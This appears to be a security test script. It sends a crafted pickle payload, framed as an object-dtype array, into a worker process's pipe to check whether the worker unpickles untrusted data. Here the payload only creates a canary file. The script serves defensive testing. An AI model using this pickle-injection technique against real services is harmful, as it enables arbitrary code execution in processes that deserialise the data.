"""Write a reply frame with an object-dtype array (a pickle) straight into the worker's pipe."""
import json
import os
import struct
import sys

from attack_prelude import ADV

payload = b"c__builtin__\nopen\n(V" + ADV["canary_dir"].encode() + b"/unpickled-frame\nVw\ntR."
head = json.dumps({"kind": "cell", "index": 3, "status": "ok", "offset": 0,
                   "arrays": [{"name": "x", "dtype": "object", "shape": [1], "nbytes": len(payload)}]}).encode()
os.write(int(sys.argv[-1]), struct.pack(">I", len(head)) + head + payload)
